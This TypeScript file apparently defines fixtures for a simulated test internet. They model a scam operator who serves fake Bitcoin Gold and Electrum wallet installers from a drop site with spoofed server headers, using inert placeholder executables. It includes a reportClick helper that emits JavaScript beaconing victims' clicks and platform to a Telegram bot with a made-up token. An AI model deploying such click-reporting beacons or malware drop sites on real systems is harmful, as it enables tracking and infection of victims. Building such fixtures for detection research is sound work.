import { iconOf, paintPng } from '../art/png.ts';
import { fakeAddress } from '../../name-service.ts';
import { content } from '../content.ts';
import { inertFile } from '../inert-file.ts';
import { hostNamed } from '../names.ts';
import { http1Server, http2Server, serve } from '../server.ts';
import { TELEGRAM } from '../third-parties.ts';

/** What the operator of the fakes reuses from one to the next. Ids and tokens are made up; addresses are the test internet's. */
export const OPERATOR_ADDRESS = fakeAddress('first machine of the operator');
export const DROP_ADDRESS = fakeAddress('second machine of the operator');
/** A machine of a hosting company, where one fake stands among strangers. */
export const SHARED_HOSTING_ADDRESS = fakeAddress('a crowded machine of a hosting company');

/** Account of which the fakes use several properties. */
export const OPERATOR_ANALYTICS_ACCOUNT = 'UA-109733512';
export const OPERATOR_METRICA = 46718293;
export const OPERATOR_BOT_TOKEN = '482915306:AAFbNoSuchBotExistsTestInternet0123';

export const nginxServer = http2Server(
  { Server: 'nginx/1.10.3 (Ubuntu)' },
  { 'X-Powered-By': 'PHP/7.0.22-0ubuntu0.16.04.1', 'X-Cache-Node': 'kp-02' },
);
export const apacheServer = http1Server(
  { Server: 'Apache/2.4.6 (CentOS) PHP/5.4.16', 'X-Powered-By': 'PHP/5.4.16' },
  { Connection: 'close' },
);

export const operatorFavicon = iconOf(
  paintPng(16, 16, (x, y) =>
    (Math.floor(x * 4) + Math.floor(y * 4)) % 2 === 0 ? [240, 190, 60] : [40, 34, 20],
  ),
  16,
);

/** JavaScript that tells the operator's chat of a click. */
export function reportClick(chat: number): string {
  return `navigator.sendBeacon('https://${TELEGRAM}/bot${OPERATOR_BOT_TOKEN}/sendMessage?chat_id=${chat}&text=' + encodeURIComponent('click ' + navigator.platform));`;
}

export const payloads = {
  first: { name: 'bitcoingold.exe', bytes: inertFile('exe', 'bitcoingold.exe, first build', 402_432) },
  second: {
    name: 'BitcoinGold-Wallet-Setup.exe',
    bytes: inertFile('exe', 'BitcoinGold-Wallet-Setup.exe', 415_744),
  },
  third: { name: 'bitcoingold.exe', bytes: inertFile('exe', 'bitcoingold.exe, third build', 398_336) },
  electrum: {
    name: 'electrum-3.0.2-setup.exe',
    bytes: inertFile('exe', 'electrum-3.0.2-setup.exe, the other one', 421_888),
  },
} as const;

export type Payload = (typeof payloads)[keyof typeof payloads];

/** The payload as a server of the operator hands it out. */
export function payloadReply({ bytes, name }: Payload) {
  return content.attachment(bytes, name, 'application/x-msdownload');
}

/** A host that only hands out files, for two of the fakes. */
export const DROP_HOST = hostNamed('dl.walletmirror.example');

export const dropSite = serve(
  DROP_HOST,
  nginxServer,
  {
    '/': {
      ...content.html(
        '<html><head><title>403 Forbidden</title></head><body><h1>Forbidden</h1></body></html>\n',
      ),
      status: 403,
    },
    '/r/8f2c1d': content.redirect(302, '/f/bitcoingold.exe'),
    [`/f/${payloads.third.name}`]: payloadReply(payloads.third),
    [`/f/${payloads.electrum.name}`]: payloadReply(payloads.electrum),
  },
  { addresses: [DROP_ADDRESS] },
);
